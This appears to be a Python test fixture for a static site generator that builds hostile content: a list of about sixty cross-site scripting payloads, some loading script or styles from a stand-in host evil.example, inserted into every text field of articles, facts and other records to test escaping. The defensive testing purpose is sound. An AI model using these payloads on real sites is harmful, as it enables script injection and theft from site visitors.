"""Text that tries to run as a program in a reader's browser, and content made of it."""

from collections.abc import Iterable
from typing import Any

from youju.text import markup

from .articles import FILLER, article, example, section, source, table, term, to_yaml, topic
from .facts import fact, value

#: Every one calls `pwn()` or `alert()` if its surroundings let it. At most 100 characters, on one line.
PAYLOADS = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,pwn()'></script>",
    "<script type=module>pwn()</script>",
    "</title><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</noscript><img src=x onerror=pwn()>",
    "</svg><img src=x onerror=pwn()>",
    "--><script>pwn()</script><!--",
    "]]><script>pwn()</script>",
    '"><script>pwn()</script>',
    "'><script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    '" onmouseover="pwn()" x="',
    "' onmouseover='pwn()' x='",
    '" autofocus tabindex=1 onfocus=pwn() x="',
    "<img src=x onerror=pwn()>",
    "<img/src/onerror=pwn()>",
    "<img src=x onerror=&#112;wn()>",
    "&lt;img src=x onerror=pwn()&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()/>#x'/></svg>",
    "<math><mtext><style><img src=x onerror=pwn()></style></mtext></math>",
    "<math><a xlink:href=javascript:pwn()>x</a></math>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:pwn()><button autofocus>x</button></form>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<body onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<a href=javascript:pwn()>x</a>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<x onclick=pwn() id=__config>x</x>",
    "{{constructor.constructor('pwn()')()}}",
    "{% import os %}{{ 7 * 7 }}${pwn()}",
    "[x](javascript:pwn())",
    "[x](JaVaScRiPt:pwn())",
    "[x](data:text/html,<script>pwn()</script>)",
    "[x](//evil.example)",
    "![x](x 'onerror=pwn()')",
    "<https://evil.example/><script>pwn()</script>",
    "`<script>pwn()</script>`",
    "**<img src=x onerror=pwn()>**",
    "＜script＞pwn()＜/script＞",
    "javascript:pwn()//",
    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
)


def _packed(payloads: Iterable[str], room: int) -> list[str]:
    """All of them, as many one after the other as have room in a field: one that is harmless changes nothing for the next."""
    packed = [""]
    for payload in payloads:
        together = f"{packed[-1]} {payload}".strip()
        packed[-1:] = [together] if len(together) <= room else [packed[-1], payload]
    return packed


#: What content is made of. A line may have 120 characters, and a word of ours follows.
PACKED = _packed(PAYLOADS, 105)


def code(number: int) -> str:
    """A word by which search finds the content of pack `number`."""
    return f"xss{number:03}"


def definition(payload: str) -> str:
    """Definitions may hold no syntax, and without the check that says so nothing could render it."""
    plain = all(token.type == "text" for token in markup.parse(payload).tokens)
    return payload if plain else "定义。"


def hostile_topic(number: int, payload: str) -> dict[str, Any]:
    return topic(f"topic-{number}", name=f"{payload} {code(number)}", definition=definition(payload))


def hostile_term(number: int, payload: str) -> dict[str, Any]:
    return term(
        f"tag-{number}", name=f"{payload} {code(number)}", topic=f"topic-{number}", aliases=[payload],
        definition=definition(payload),
    )  # fmt: skip


def hostile_fact(number: int, payload: str) -> dict[str, Any]:
    """A figure with enough history for a chart."""
    values = [value(f"202{year}-01-01", f"{year}.5", source=f"doc-{number}:<b>", note=payload) for year in range(4)]
    return fact(
        f"fact-{number}", *values, name=f"{payload} {code(number)}", topic=f"topic-{number}", region=payload,
        definition=payload, verified_on="2024-01-01", verified_against=payload, review_by="2024-01-02", note=payload,
    )  # fmt: skip


def hostile_article(number: int, payload: str) -> dict[str, Any]:
    """`payload` in every field that takes text, and inside every inline syntax."""
    inside = (
        f"{payload} **{payload}** `{payload}` [{payload}](https://a.example/) [[article-{number}|{payload}]] "
        f"[[tag:tag-{number}|{payload}]] [[topic:topic-{number}]] [[fact:fact-{number}]] {{{{fact-{number}}}}}[^doc-{number}:<img/src=x>]"
    )
    rows = [[payload, f"**{payload}** `{payload}`"]]
    sums = [payload, f"{payload} = {{{{=x}}}}"]
    days = [{"date": payload, "text": inside}, {"date": "T 日", "text": payload}]
    blocks = [
        inside,
        {"list": [inside]},
        {"numbered": [inside]},
        {"note": inside},
        {"table": table(caption=payload, columns=[payload, payload], rows=rows, note=payload)},
        {"example": example(title=payload, given=[payload], lines=sums, result=payload)},
        {"chart": {"title": payload, "fact": f"fact-{number}", "note": payload}},
        {"chart": {"title": payload, "unit": payload, "bars": [{"label": payload, "value": n} for n in "12"]}},
        {"chart": {"title": payload, "timeline": days}},
        {"decision": f"tree-{number}"},
    ]
    return article(
        f"article-{number}",
        title=f"{payload} {code(number)}",
        topic=f"topic-{number}",
        tags=[f"tag-{number}", "tag-0", "tag-1"] if number > 1 else ["tag-0", "tag-1", "tag-2"],
        phrasings=[payload, payload],
        origin={"publisher": payload, "headline": payload, "time": "2022-08-22 16:41:36"},
        answer=f"{payload} 一句话的答案",
        cases=[{"if": inside, "then": inside}, {"if": payload, "then": payload, "from": "2199-01-01"}],
        sections=[section(f"{payload} {part}", *(blocks if part == 0 else [])) for part in range(4)],
        steps=[{"do": inside, "say": payload, "copy": payload}, {"do": FILLER}, {"do": payload}],
        myths=[{"claim": payload, "truth": payload}],
        changes=[{"before": payload, "now": payload, "since": "2023"}],
        faq=[{"question": f"{payload} {part}", "answer": payload} for part in "甲乙"],
        unverified=[payload],
    )


def hostile_source(number: int, payload: str) -> dict[str, Any]:
    return source(
        f"doc-{number}", title=payload, short=payload, publisher=payload, doc_no=payload, note=payload,
        seen={"text": "转述", "on": "2024-01-01"},
    )  # fmt: skip


def hostile_decision(number: int, payload: str) -> dict[str, Any]:
    ends = [{"id": end, "title": payload, "text": payload} for end in ("one", "two")]
    answers = [{"say": payload, "end": end["id"]} for end in ends]
    return {
        "id": f"tree-{number}", "title": payload,
        "questions": [{"id": "first", "ask": payload, "answers": answers}], "outcomes": ends,
    }  # fmt: skip


def hostile_deadline(number: int, payload: str) -> dict[str, Any]:
    return {
        "id": f"limit-{number}", "topic": f"topic-{number}", "field": payload, "title": payload, "within": payload,
        "from": payload, "who": payload, "missed": f"{payload} {{{{fact-{number}}}}}", "note": payload,
        "sources": [f"doc-{number}:<img/src=x>"], "read": [f"article-{number}"], "reviewed": "2024-01-01",
    }  # fmt: skip


def hostile_situation(number: int, payload: str) -> dict[str, Any]:
    inside = f"{payload} **{payload}** [[article-{number}|{payload}]] {{{{fact-{number}}}}}[^doc-{number}:<img/src=x>]"
    steps = [
        {"id": f"step-{n}", "do": inside, "why": payload, "bring": payload, "local": inside,
         "deadlines": [f"limit-{number}"], "figures": [f"fact-{number}"], "read": [f"article-{number}"]}
        for n in range(2)
    ]  # fmt: skip
    return {
        "id": f"way-{number}", "title": payload, "about": payload, "for": inside, "topic": f"topic-{number}",
        "phrasings": [payload, payload], "reviewed": "2024-01-01", "notes": [inside],
        "stages": [{"when": payload, "steps": [step]} for step in steps],
    }  # fmt: skip


def hostile_content() -> dict[str, Any]:
    """Arguments for `write_site`: one topic, tag, figure and article for each pack of payloads."""
    pairs = list(enumerate(PACKED))
    return {
        "articles": [hostile_article(*pair) for pair in pairs],
        "topics": [hostile_topic(*pair) for pair in pairs],
        "tags": [hostile_term(*pair) for pair in pairs],
        "sources": [hostile_source(*pair) for pair in pairs],
        "files": {
            "data/facts/all.yml": to_yaml([hostile_fact(*pair) for pair in pairs]),
            "data/deadlines/all.yml": to_yaml([hostile_deadline(*pair) for pair in pairs]),
            **{f"data/situations/way-{pair[0]}.yml": to_yaml(hostile_situation(*pair)) for pair in pairs},
            **{f"data/decisions/tree-{pair[0]}.yml": to_yaml(hostile_decision(*pair)) for pair in pairs},
        },
    }
